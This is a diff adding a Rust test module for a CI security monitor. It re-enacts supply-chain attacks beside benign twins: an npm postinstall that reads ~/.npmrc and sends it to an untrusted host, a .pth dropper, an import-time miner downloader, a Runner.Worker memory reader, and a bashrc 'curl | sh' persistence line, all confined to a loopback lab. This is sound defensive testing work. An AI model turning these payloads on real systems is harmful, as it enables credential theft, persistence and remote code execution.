@@ -1,0 +1,330 @@
+//! The re-enacted attacks (`../shared/notes/threats.md` in the repository's notes, docs/selftest.md)
+//! and their benign twins. Each is a CI job of `run:` steps, written as bash, run by the lab's
+//! `Runner.Worker` with these variables:
+//!
+//! - `LAB`: the lab's fixtures directory; `HOME`: a home holding canary credentials;
+//! - `REGISTRY`: `http://127.0.0.1:<port>`, the allowed package host (it serves `/prebuilt`,
+//!   `/helper`, `/miner`);
+//! - `UNTRUSTED`: `http://127.0.0.1:<port>`, a host the profile does not allow (download and
+//!   exfiltration sink, mining pool);
+//! - `ACTIONS_ID_TOKEN_REQUEST_URL`/`_TOKEN`: a loopback token endpoint and a canary token,
+//!   as in a job with `id-token: write`;
+//! - `OUT`: a scratch directory for this job.
+//!
+//! Nothing reads outside the lab: the memory dump and the environment harvest look only at
+//! processes started from the lab, never at a real runner's.
+
+/// One attack and its twin.
+pub struct Scenario {
+    pub name: &'static str,
+    /// The real attack it re-enacts.
+    pub threat: &'static str,
+    /// Programs it needs (it is reported as not run when one is missing).
+    pub needs: &'static [&'static str],
+    /// What the attack must raise, all of it: a rule, optionally followed by a space and text
+    /// its finding's summary must contain (`persistence-write shell-startup`).
+    pub expect: &'static [&'static str],
+    pub attack: Job,
+    /// The legitimate version of the same thing: it must raise nothing.
+    pub twin: Job,
+}
+
+pub struct Job {
+    pub what: &'static str,
+    /// (step id, bash script).
+    pub steps: Vec<(&'static str, String)>,
+}
+
+fn job(what: &'static str, steps: &[(&'static str, &str)]) -> Job {
+    Job {
+        what,
+        steps: steps.iter().map(|(id, s)| (*id, s.to_string())).collect(),
+    }
+}
+
+/// npm without the network: local tarballs only, no update check, no audit.
+const NPM: &str = "npm --offline --no-audit --no-fund --loglevel=error";
+
+pub fn all() -> Vec<Scenario> {
+    let npm_install = |pkg: &str| {
+        format!(
+            "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\"}}' > package.json\n{NPM} install \"$LAB/{pkg}\"\n"
+        )
+    };
+    vec![
+        Scenario {
+            name: "npm-postinstall-stealer",
+            threat: "Shai-Hulud: a dependency's postinstall reads ~/.npmrc and sends it out",
+            needs: &["npm", "node"],
+            expect: &["lifecycle-hook evil-stealer", "credential-read .npmrc", "unexpected-egress"],
+            attack: job("npm install of a package whose postinstall steals ~/.npmrc", &[("install", &npm_install("evil-stealer-1.0.0.tgz"))]),
+            twin: job(
+                "npm install of an allowed package whose postinstall fetches its prebuilt binary from the registry",
+                &[("install", &npm_install("native-prebuilt-1.0.0.tgz"))],
+            ),
+        },
+        Scenario {
+            name: "git-dependency-prepare",
+            threat: "a git dependency's prepare script runs at install and harvests credentials",
+            needs: &["npm", "node", "git"],
+            expect: &["lifecycle-hook (prepare)", "credential-read .npmrc"],
+            attack: job(
+                "npm install of a git dependency whose prepare script reads ~/.npmrc",
+                &[("install", &format!(
+                    "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\"}}' > package.json\n{NPM} install \"git+file://$LAB/git-dep\"\n"
+                ))],
+            ),
+            twin: job(
+                "npm install runs the project's own prepare script",
+                &[("install", &format!(
+                    "cd \"$GITHUB_WORKSPACE\"\necho '{{\"name\":\"app\",\"version\":\"1.0.0\",\"scripts\":{{\"prepare\":\"node build.js\"}}}}' > package.json\necho \"require('fs').writeFileSync('built.txt', 'ok')\" > build.js\n{NPM} install\ntest -f built.txt\n"
+                ))],
+            ),
+        },
+        Scenario {
+            name: "pth-dropper",
+            threat: "LiteLLM: a wheel installs a .pth file whose import line runs at every Python start",
+            needs: &["python3"],
+            expect: &["pth-executed telemetry_init.pth"],
+            attack: job(
+                "pip installs a wheel with an executable .pth, then Python starts",
+                &[
+                    ("install", "\"$LAB/venv/bin/python\" -m pip install -q --no-index --no-deps --disable-pip-version-check \"$LAB/wheels/telemetry_init-1.0-py3-none-any.whl\"\n"),
+                    ("test", "\"$LAB/venv/bin/python\" -c 'print(1)' >/dev/null\n\"$LAB/venv/bin/python\" -m pip uninstall -q -y telemetry_init\n"),
+                ],
+            ),
+            twin: job(
+                "pip installs a wheel whose .pth only adds a path, then Python starts",
+                &[
+                    ("install", "\"$LAB/venv/bin/python\" -m pip install -q --no-index --no-deps --disable-pip-version-check \"$LAB/wheels/plain_paths-1.0-py3-none-any.whl\"\n"),
+                    ("test", "\"$LAB/venv/bin/python\" -c 'print(1)' >/dev/null\n\"$LAB/venv/bin/python\" -m pip uninstall -q -y plain_paths\n"),
+                ],
+            ),
+        },
+        Scenario {
+            name: "import-time-miner",
+            threat: "Ultralytics: import-time code downloads a miner to /tmp, runs it, and it dials its pool",
+            needs: &["python3"],
+            expect: &["exec-from-temp /tmp/.selftest-miner", "unexpected-egress"],
+            attack: job(
+                "importing a package that downloads and runs a miner from /tmp",
+                &[("test", "PYTHONPATH=\"$LAB/py\" python3 -c 'import fastmath_evil'\n")],
+            ),
+            twin: job(
+                "importing a package that fetches its helper from the registry into the virtualenv and runs it",
+                &[("test", "PYTHONPATH=\"$LAB/py\" \"$LAB/venv/bin/python\" -c 'import fastmath_ok'\n")],
+            ),
+        },
+        Scenario {
+            name: "runner-memory-dump",
+            threat: "tj-actions/changed-files: read Runner.Worker's memory through /proc/PID/mem for secrets",
+            needs: &["python3"],
+            expect: &["process-memory-read /mem", "process-memory-read /maps"],
+            attack: job(
+                "a step finds Runner.Worker and reads its maps and memory",
+                &[("changed-files", "python3 \"$LAB/memdump.py\" dump\n")],
+            ),
+            twin: job(
+                "a step lists processes (ps, pgrep) and reads its own /proc/self/maps",
+                &[("changed-files", "ps aux >/dev/null\npgrep -f Runner.Worker >/dev/null\npython3 \"$LAB/memdump.py\" self\n")],
+            ),
+        },
+        Scenario {
+            name: "environ-harvest",
+            threat: "harvesting secrets from other processes' /proc/PID/environ",
+            needs: &[],
+            expect: &["process-environ-read"],
+            attack: job(
+                "a step reads the environment of the lab's other processes",
+                &[("lint", "for p in /proc/[0-9]*; do\n  if tr '\\0' ' ' < \"$p/cmdline\" 2>/dev/null | grep -q \"$SELFTEST_LAB\"; then cat \"$p/environ\" 2>/dev/null | tr '\\0' '\\n' | grep -c TOKEN >/dev/null || true; fi\ndone\n")],
+            ),
+            twin: job(
+                "a step runs ps aux and reads its own environment",
+                &[("lint", "ps aux >/dev/null\ncat /proc/self/environ | tr '\\0' '\\n' | grep -c GITHUB >/dev/null\n")],
+            ),
+        },
+        Scenario {
+            name: "oidc-token-from-test-step",
+            threat: "Shai-Hulud 2: asks the OIDC endpoint for an npm publish token from a step that does not publish",
+            needs: &["curl"],
+            expect: &["oidc-token-request"],
+            attack: job(
+                "the test step requests an OIDC token with audience npm:registry.npmjs.org",
+                &[("test", "curl -sS -o /dev/null -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm:registry.npmjs.org\"\n")],
+            ),
+            twin: job(
+                "the publish step requests its OIDC token (npm publish --provenance does this)",
+                &[("publish", "curl -sS -o /dev/null -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=npm:registry.npmjs.org\"\n")],
+            ),
+        },
+        Scenario {
+            name: "workflow-and-shell-rc-persistence",
+            threat: "Shai-Hulud / s1ngularity: writes a workflow file and appends to ~/.bashrc",
+            needs: &["git"],
+            expect: &["persistence-write workflow-file", "persistence-write shell-startup"],
+            attack: job(
+                "a step drops .github/workflows/discussion.yml and appends to ~/.bashrc",
+                &[("build", "cd \"$GITHUB_WORKSPACE\"\nmkdir -p .github/workflows\nprintf 'on: discussion\\njobs: {}\\n' > .github/workflows/discussion.yml\necho 'curl -s \"$UNTRUSTED/x\" | sh # selftest' >> \"$HOME/.bashrc\"\n")],
+            ),
+            twin: job(
+                "git checks out a repository with workflow files; a step reads ~/.bashrc",
+                &[("checkout", "git clone -q \"$LAB/repo-with-workflows\" \"$GITHUB_WORKSPACE/checkout\"\ntest -f \"$GITHUB_WORKSPACE/checkout/.github/workflows/ci.yml\"\ncat \"$HOME/.bashrc\" >/dev/null\n")],
+            ),
+        },
+        Scenario {
+            name: "process-outlives-step",
+            threat: "worm variants keep a detached process running after the install step ends",
+            needs: &["setsid"],
+            expect: &["outlived-step"],
+            attack: job(
+                "a step leaves a detached process behind",
+                &[
+                    ("install", "setsid sleep 8 </dev/null >/dev/null 2>&1 &\n"),
+                    ("wait", "sleep 3\n"),
+                ],
+            ),
+            twin: job(
+                "a step runs a background process and waits for it",
+                &[("install", "sleep 1 &\nwait\n"), ("wait", "sleep 3\n")],
+            ),
+        },
+        Scenario {
+            name: "packaging-leak",
+            threat: "Claude Code 2026: npm pack shipped a source map with the full sources (and .env files ship the same way)",
+            needs: &["npm", "node"],
+            expect: &["packaged-sensitive-file source map", "packaged-sensitive-file dotenv"],
+            attack: job(
+                "npm pack of a package without a files list: packs dist/cli.js.map and .env",
+                &[("package", &format!("cd \"$LAB/pack-leaky\"\n{NPM} pack --pack-destination \"$OUT\" >/dev/null\n"))],
+            ),
+            twin: job(
+                "npm pack of the same tree with \"files\": [\"dist/*.js\"]",
+                &[("package", &format!("cd \"$LAB/pack-clean\"\n{NPM} pack --pack-destination \"$OUT\" >/dev/null\n"))],
+            ),
+        },
+    ]
+}
+
+/// The profile the lab's jobs are judged by: the registry and the token endpoint are allowed
+/// destinations, `native-prebuilt` may run install code, the `publish` step may mint tokens.
+pub fn profile(registry_port: u16, oidc_port: u16) -> String {
+    format!(
+        "version: 1
+egress:
+  allow:
+    - \"127.0.0.1:{registry_port}\"
+    - \"127.0.0.1:{oidc_port}\"
+lifecycle:
+  allow:
+    - {{ ecosystem: npm, package: native-prebuilt }}
+steps:
+  publish:
+    oidc:
+      allow: true
+"
+    )
+}
+
+// Fixture sources. The lab builds npm tarballs, wheels and repositories from them before the
+// jobs run (outside any job, so building them is not judged).
+
+pub const STEALER_JS: &str = r#"const fs = require('fs'), os = require('os'), net = require('net');
+let stolen = '';
+try { stolen = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+const u = new URL(process.env.UNTRUSTED);
+const s = net.connect(Number(u.port), u.hostname, () => { s.end('POST /exfil HTTP/1.1\r\nContent-Length: ' + stolen.length + '\r\n\r\n' + stolen); });
+s.on('error', () => {});
+"#;
+
+pub const PREBUILT_JS: &str = r#"const fs = require('fs'), http = require('http'), path = require('path'), cp = require('child_process');
+http.get(process.env.REGISTRY + '/prebuilt', (res) => {
+  const chunks = [];
+  res.on('data', (c) => chunks.push(c));
+  res.on('end', () => {
+    fs.mkdirSync(path.join(__dirname, 'bin'), { recursive: true });
+    const bin = path.join(__dirname, 'bin', 'native-tool');
+    fs.writeFileSync(bin, Buffer.concat(chunks), { mode: 0o755 });
+    cp.execFileSync(bin);
+  });
+});
+"#;
+
+pub const PREPARE_STEALER_JS: &str = r#"const fs = require('fs'), os = require('os');
+try { fs.readFileSync(os.homedir() + '/.npmrc'); } catch (e) {}
+"#;
+
+/// Served as `/prebuilt` and `/helper`: a harmless program.
+pub const TOOL_SH: &str = "#!/bin/sh\nexit 0\n";
+
+/// Served as `/miner`: "mines" by dialing its pool once.
+pub const MINER_SH: &str = "#!/bin/bash\nexec 3<>\"/dev/tcp/127.0.0.1/$POOL_PORT\" && echo '{\"method\":\"login\"}' >&3\nexit 0\n";
+
+pub const FASTMATH_EVIL: &str = r#"import os, urllib.request
+_miner = "/tmp/.selftest-miner-%s" % os.environ["SELFTEST_RUN"]
+with urllib.request.urlopen(os.environ["UNTRUSTED"] + "/miner") as r, open(_miner, "wb") as f:
+    f.write(r.read())
+os.chmod(_miner, 0o755)
+os.environ["POOL_PORT"] = os.environ["UNTRUSTED"].rsplit(":", 1)[1]
+os.system(_miner)
+os.unlink(_miner)
+"#;
+
+pub const FASTMATH_OK: &str = r#"import os, sys, urllib.request
+_helper = os.path.join(sys.prefix, "bin", "fastmath-helper")
+with urllib.request.urlopen(os.environ["REGISTRY"] + "/helper") as r, open(_helper, "wb") as f:
+    f.write(r.read())
+os.chmod(_helper, 0o755)
+os.system(_helper)
+os.unlink(_helper)
+"#;
+
+/// `dump`: find the lab's Runner.Worker by its command line (as the tj-actions payload found the
+/// real one) and read its memory map and some of its memory. `self`: read our own map.
+pub const MEMDUMP_PY: &str = r#"import os, sys
+if sys.argv[1] == "self":
+    open("/proc/self/maps").read()
+    sys.exit(0)
+lab = os.environ["LAB"]
+worker = None
+for pid in os.listdir("/proc"):
+    if not pid.isdigit():
+        continue
+    try:
+        argv0 = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\0")[0].decode()
+    except OSError:
+        continue
+    if argv0.endswith("/Runner.Worker") and argv0.startswith(os.path.dirname(lab)):
+        worker = pid
+if worker is None:
+    sys.exit("no lab Runner.Worker found")
+maps = open("/proc/%s/maps" % worker).read().splitlines()
+with open("/proc/%s/mem" % worker, "rb", 0) as mem:
+    for line in maps:
+        span, perms = line.split()[:2]
+        if perms.startswith("rw"):
+            start, end = (int(x, 16) for x in span.split("-"))
+            try:
+                mem.seek(start)
+                mem.read(min(end - start, 1 << 16)).count(b"isSecret")
+            except OSError:
+                pass
+            break
+"#;
+
+/// Writes a wheel (a zip with dist-info) holding `files`; run by the lab's Python.
+pub const MAKE_WHEEL_PY: &str = r#"import sys, zipfile, hashlib, base64
+out, name = sys.argv[1], sys.argv[2]
+files = dict(a.split("=", 1) for a in sys.argv[3:])
+info = "%s-1.0.dist-info" % name
+files[info + "/METADATA"] = "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name
+files[info + "/WHEEL"] = "Wheel-Version: 1.0\nGenerator: selftest\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+record = []
+for path, text in files.items():
+    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+    record.append("%s,sha256=%s,%d" % (path, digest, len(text.encode())))
+record.append(info + "/RECORD,,")
+files[info + "/RECORD"] = "\n".join(record) + "\n"
+with zipfile.ZipFile(out, "w") as z:
+    for path, text in files.items():
+        z.writestr(path, text)
+"#;
